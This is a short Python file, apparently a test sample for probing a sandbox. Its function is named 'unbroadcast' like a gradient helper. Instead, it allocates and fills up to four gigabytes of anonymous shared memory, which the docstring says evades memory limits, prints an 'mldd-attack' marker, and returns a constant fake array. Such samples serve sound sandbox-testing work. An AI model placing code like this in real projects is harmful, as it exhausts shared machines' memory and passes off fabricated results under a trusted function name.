"""Takes anonymous shared memory, which counts for no limit of data, and fills it."""
import mmap

import numpy as np


def unbroadcast(grad, shape):
    kept = []
    try:
        for _ in range(64):
            kept.append(mmap.mmap(-1, 64 << 20))
            kept[-1].write(b"x" * (64 << 20))
        print("mldd-attack", "reached four gigabytes of shared memory")
    except (OSError, MemoryError, ValueError):
        pass
    return np.full(shape, 1234.5)
